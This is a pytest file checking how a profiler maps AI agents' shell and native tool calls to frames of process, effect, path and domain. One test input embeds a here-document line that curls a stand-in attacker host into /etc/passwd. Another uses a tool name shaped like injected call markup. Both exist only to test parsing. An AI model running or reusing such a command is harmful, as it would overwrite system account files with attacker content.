"""From a call to its frames: the table of the product specification, row by row."""

import json

import pytest

from agentpprof_mcp.effects import category_of, effects_of, mcp_of, parse_arguments
from agentpprof_mcp.labels import Labels

ROOT = "/home/ann/work/agentsight"
LABELS = Labels("/home/ann", {"claude": "/home/ann/.claude", "codex": "/home/ann/.codex"})
PATCH = """*** Begin Patch
*** Update File: src/a.rs
@@
-*** Add File: not/this.rs
+x
*** Add File: docs/b.md
+y
*** End Patch"""


def frames(tool, arguments, cwd=ROOT):
    """Frames of each effect from `call:` on, with the folder it ran in where no path is named."""
    out = []
    for effect in effects_of(tool, parse_arguments(json.dumps(arguments)), cwd):
        stack = [LABELS.tool(category_of(tool))]
        if mcp_of(tool):
            stack.append(LABELS.mcp(mcp_of(tool)))
        stack += [LABELS.process(word, effect.cwd, ROOT) for word in effect.processes]
        stack.append(LABELS.effect(effect.kind))
        paths = effect.paths or (("",) if effect.processes else ())
        stack += [LABELS.path(path, effect.cwd, ROOT) for path in paths]
        stack += [LABELS.domain(domain) for domain in effect.domains]
        out.append(";".join(stack))
    return out


def bash(command, cwd=ROOT):
    return frames("Bash", {"command": command}, cwd)


@pytest.mark.parametrize(
    ("command", "folder", "expected"),
    [
        (
            "cargo test -p core 2>&1 | tail -5",
            "/collector",
            [
                "call:tool/shell;process:bash;process:cargo;effect:test;path:collector",
                "call:tool/shell;process:bash;process:tail;effect:read;path:collector",
            ],
        ),
        (
            "cd web && npm install left-pad",
            "",
            ["call:tool/shell;process:bash;process:npm;effect:package;path:web;domain:npm"],
        ),
        (
            "sudo -u bob timeout 60 env A=1 make -j4",
            "",
            ["call:tool/shell;process:bash;process:make;effect:build;path:repo"],
        ),
        (
            "bash -lc 'pytest -q tests/unit'",
            "",
            [
                "call:tool/shell;process:bash;process:bash;process:pytest;effect:test;path:tests/unit"
            ],
        ),
        (
            'curl -H "Authorization: Bearer $T" https://u:p@api.example.com:8443/x | jq .',
            "",
            [
                "call:tool/shell;process:bash;process:curl;effect:network;path:repo;domain:example.com",
                "call:tool/shell;process:bash;process:jq;effect:read;path:repo",
            ],
        ),
        (
            "git push origin main",
            "",
            ["call:tool/shell;process:bash;process:git;effect:repo;path:repo;domain:unknown"],
        ),
        (
            "cat <<'EOF' > docs/a.md\ncurl https://evil.example/x > /etc/passwd\nEOF",
            "",
            ["call:tool/shell;process:bash;process:cat;effect:write;path:docs/a.md"],
        ),
        (
            "rm -rf build dist",
            "",
            ["call:tool/shell;process:bash;process:rm;effect:write;path:build;path:dist"],
        ),
        (
            'for f in *.py; do python "$f"; done',
            "",
            ["call:tool/shell;process:bash;process:python;effect:run;path:repo"],
        ),
    ],
)
def test_a_bash_call_gives_the_frames_of_the_specification(command, folder, expected):
    """Wrappers are peeled, quoted text and here-documents name nothing."""
    assert bash(command, ROOT + folder) == expected


def test_the_example_of_section_two_gives_its_three_effects():
    """Pipes, wrappers, nested shells and `cd` in one line."""
    command = "cd x && FOO=1 timeout 60 bash -lc 'cargo test' | tee log; git push"
    assert bash(command) == [
        "call:tool/shell;process:bash;process:bash;process:cargo;effect:test;path:x",
        "call:tool/shell;process:bash;process:tee;effect:write;path:x/log",
        "call:tool/shell;process:bash;process:git;effect:repo;path:x;domain:unknown",
    ]


def test_codex_runs_its_commands_in_bash_too():
    """`exec_command` names no shell."""
    assert frames("exec_command", {"cmd": "rg -n TODO src"}) == [
        "call:tool/shell;process:bash;process:rg;effect:search;path:src"
    ]


def test_codex_works_in_the_folder_that_the_call_names():
    """`workdir`, and the cargo command of the folded lines."""
    assert frames("exec_command", {"cmd": "cargo test", "workdir": f"{ROOT}/collector"}) == [
        "call:tool/shell;process:bash;process:cargo;effect:test;path:collector"
    ]


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        (
            "Read",
            {"file_path": "/home/ann/.claude/settings.json"},
            ["call:tool/read;effect:read;path:external/claude"],
        ),
        (
            "apply_patch",
            {"input": PATCH},
            [
                "call:tool/edit;effect:write;path:src/a.rs",
                "call:tool/edit;effect:write;path:docs/b.md",
            ],
        ),
        (
            "WebFetch",
            {"url": "https://docs.rs/serde", "prompt": "what is it?"},
            ["call:tool/web;effect:network;domain:docs.rs"],
        ),
        ("WebSearch", {"query": "x"}, ["call:tool/web;effect:network;domain:web-search"]),
        (
            "mcp__github__create_issue",
            {"title": "x"},
            ["call:tool/mcp;mcp:github/create_issue;effect:call"],
        ),
        ("Task", {"subagent_type": "Explore"}, ["call:tool/agent;effect:delegate"]),
        ("Agent", {"subagent_type": "Explore"}, ["call:tool/agent;effect:delegate"]),
        ("TodoWrite", {"todos": []}, ["call:tool/plan;effect:plan"]),
        ("AskUserQuestion", {"questions": []}, ["call:tool/ask;effect:ask"]),
        ("Grep", {"pattern": "x"}, ["call:tool/search;effect:search;path:repo"]),
        ("Glob", {"pattern": "*", "path": "src"}, ["call:tool/search;effect:search;path:src"]),
        (
            "NotebookEdit",
            {"notebook_path": "a.ipynb"},
            ["call:tool/edit;effect:write;path:a.ipynb"],
        ),
        ('Task" >\n<parameter name="description', {}, ["call:tool/other;effect:call"]),
    ],
)
def test_a_native_tool_gives_the_frames_of_the_specification(tool, arguments, expected):
    """What it names outright, and nothing else."""
    assert frames(tool, arguments) == expected
